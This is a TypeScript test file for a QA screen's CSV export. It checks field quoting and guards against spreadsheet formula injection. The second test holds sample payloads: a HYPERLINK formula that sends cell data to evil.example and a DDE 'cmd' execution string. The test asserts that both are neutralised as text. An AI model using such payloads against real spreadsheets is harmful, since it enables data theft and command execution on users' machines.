import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../client/src/lib/export.ts';
import { viewOf } from '../../server/domain/conversation.ts';
import { play } from '../support/quality.ts';
import { scoreOf } from '../support/turns.ts';

describe("the QA screen's CSV export", () => {
  it('quotes commas, quotes and line breaks so a CSV reader gets the text back, with a BOM and CRLF rows', () => {
    const said = 'This is "terrible",\nI want to cancel, 马上';
    const c = play([['customer', said, scoreOf('negative')]], { conversationId: 'csv-1' });
    const csv = toCsv(viewOf(c, c.updatedAt));
    expect(csv.startsWith('\uFEFFconversationId,at,offsetSeconds,kind,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    const turn = rows.find((r) => r.kind === 'turn')!;
    expect(turn).toMatchObject({ conversationId: 'csv-1', speaker: 'customer', text: said, label: 'negative' });
    expect(rows.filter((r) => r.kind === 'alert').length).toBe(c.alerts.length);
  });

  it('keeps a customer\'s formula as text for spreadsheet programs, and figures as numbers', () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)'];
    const c = play(formulas.map((text) => ['customer', text, scoreOf('negative')] as const), { conversationId: 'csv-2' });
    const rows = parse(toCsv(viewOf(c, c.updatedAt)), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.filter((r) => r.kind === 'turn').map((r) => r.text)).toEqual(formulas.map((f) => `'${f}`));
    const turn = rows.find((r) => r.kind === 'turn')!;
    expect(Number(turn.valence)).toBeLessThan(0);
    expect(turn.valence).toBe(String(Number(c.turns[0]!.score.valence.toFixed(3))));
  });
});
